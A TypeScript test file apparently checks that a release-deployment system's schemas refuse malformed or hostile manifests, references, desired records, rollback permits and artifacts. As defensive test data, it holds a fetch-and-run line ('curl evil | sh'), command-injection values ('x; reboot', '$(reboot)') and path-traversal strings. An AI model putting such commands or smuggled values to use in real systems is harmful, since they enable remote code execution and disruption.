import { describe, expect, it } from 'vitest';
import { parse } from '#domain/messages/parse.js';
import {
  builtPointer,
  desiredPointer,
  desiredRecordSchema,
  releaseManifestSchema,
  releaseRefSchema,
  rollbackPermitSchema,
  storeArtifactSchema,
} from '#domain/release.js';
import { aManifest, anArtifact, aReleaseRef } from '../../support/builders.js';
import { aPermit } from '../../support/rollback-builders.js';

const digest = `sha256:${'c'.repeat(64)}`;

describe('a release manifest', () => {
  it('is accepted', () => {
    expect(parse(releaseManifestSchema, aManifest())).toEqual({ ok: true, value: aManifest() });
  });

  const bad: Record<string, [change: object, problem: RegExp]> = {
    'of a later form is refused': [{ schema: 'edge.release/v2' }, /^schema: /],
    'with a key that this version does not know is refused': [{ preInstall: 'curl evil | sh' }, /preInstall/],
    'without packages is refused': [{ packages: { ...aManifest().packages, pinned: [] } }, /^packages\.pinned: /],
    'with a hostile package name is refused': [
      { packages: { ...aManifest().packages, pinned: [{ name: 'x; reboot', version: '1' }] } },
      /^packages\.pinned\[0\]\.name: /,
    ],
    'with a hostile package version is refused': [
      { packages: { ...aManifest().packages, pinned: [{ name: 'curl', version: '$(reboot)' }] } },
      /^packages\.pinned\[0\]\.version: /,
    ],
    'with a snapshot that is a path is refused': [
      { packages: { ...aManifest().packages, snapshot: '../../etc' } },
      /^packages\.snapshot: /,
    ],
    'with an artifact for no store is refused': [
      { artifacts: [{ store: '../x', digest, size: 1 }] },
      /^artifacts\[0\]\.store: /,
    ],
    'with an artifact too large to pull is refused': [
      { artifacts: [{ store: 'store-001', digest, size: 5_000_001 }] },
      /^artifacts\[0\]\.size: /,
    ],
    'with a digest of another kind is refused': [{ sbom: `md5:${'c'.repeat(32)}` }, /^sbom: /],
    'with an expiry that is no instant is refused': [{ expires: 'never' }, /^expires: /],
    'with an expiry in local time is refused': [{ expires: '2027-02-21T01:00:00' }, /^expires: /],
    'with a sequence below one is refused': [{ sequence: 0 }, /^sequence: /],
    'with a scan that says something else than pass or deny is refused': [
      { scan: { ...aManifest().scan, verdict: 'maybe' } },
      /^scan\.verdict: /,
    ],
    'built from a branch name is refused': [{ source: { commit: 'main', builder: 'x' } }, /^source\.commit: /],
  };
  it.each(Object.entries(bad))('%s', (_, [change, problem]) => {
    const parsed = parse(releaseManifestSchema, { ...aManifest(), ...change });
    expect(parsed.ok ? [] : parsed.problems).toEqual([expect.stringMatching(problem)]);
  });
});

describe('a reference to a release', () => {
  it.each([
    [{}, true],
    [{ manifest: 'c'.repeat(64) }, false],
    [{ bundle: `${digest}0` }, false],
    [{ sequence: 1.5 }, false],
    [{ version: '../2026.48.0' }, false],
    [{ trust: 'me' }, false],
  ])('with %j is accepted: %s', (change, good) => {
    expect(parse(releaseRefSchema, { ...aReleaseRef(), ...change }).ok).toBe(good);
  });
});

describe('a desired record', () => {
  const record = {
    schema: 'edge.desired/v1',
    store: 'store-001',
    release: aReleaseRef(),
    train: '2026-w48',
    stage: 'canary',
    commit: 'd'.repeat(40),
    expires: '2026-12-24T00:00:00Z',
  };
  it.each([
    [{}, true],
    [{ store: '../store-002' }, false],
    [{ train: '../../refs' }, false],
    [{ stage: '-x' }, false],
    [{ commit: 'HEAD' }, false],
    [{ expires: '' }, false],
    [{ release: { ...aReleaseRef(), manifest: 'latest' } }, false],
    [
      { permit: { permit: digest, bundle: digest }, soaked: { release: aReleaseRef(), at: '2026-11-25T10:00:00Z' } },
      true,
    ],
    [{ permit: { permit: digest } }, false],
    [{ permit: { permit: 'yes', bundle: digest } }, false],
    [{ soaked: { release: aReleaseRef(), at: 'soon' } }, false],
  ])('with %j is accepted: %s', (change, good) => {
    expect(parse(desiredRecordSchema, { ...record, ...change }).ok).toBe(good);
  });

  it('has a place of its own for each store and each build', () => {
    expect(desiredPointer('store-001')).toBe('desired/store-001.json');
    expect(builtPointer('edge', 'd'.repeat(40))).toBe(`built/edge/${'d'.repeat(40)}.json`);
  });
});

describe('a rollback permit', () => {
  it.each([
    [{}, true],
    [{ schema: 'edge.rollback-permit/v2' }, false],
    [{ stores: [] }, false],
    [{ stores: ['../x'] }, false],
    [{ from: aReleaseRef(48) }, false],
    [{ to: { ...aReleaseRef(47), bundle: undefined } }, false],
    [{ approval: { ...aPermit().approval, planHash: 'latest' } }, false],
    [{ expires: 'never' }, false],
    [{ unlimited: true }, false],
  ])('with %j is accepted: %s', (change, good) => {
    expect(parse(rollbackPermitSchema, { ...aPermit(), ...change }).ok).toBe(good);
  });
});

describe('an artifact of a store', () => {
  it('carries the store file and the files of its guests', () => {
    const artifact = anArtifact(undefined, { 'default.vcl': 'vcl 4.1;' });
    expect(parse(storeArtifactSchema, artifact)).toEqual({ ok: true, value: artifact });
  });

  it('is refused with a file of more than a megabyte', () => {
    const parsed = parse(storeArtifactSchema, anArtifact(undefined, { 'default.vcl': 'x'.repeat(1_000_001) }));
    expect(parsed.ok ? [] : parsed.problems).toEqual([expect.stringMatching(/^files\.default\.vcl: /)]);
  });

  it('is refused when the store file in it is not valid', () => {
    const artifact = { ...anArtifact(), store: { id: '../x', nodes: [] } };
    const parsed = parse(storeArtifactSchema, artifact);
    expect(parsed.ok ? [] : parsed.problems.map((line) => line.split(':')[0])).toEqual(['store.id', 'store.nodes']);
  });
});
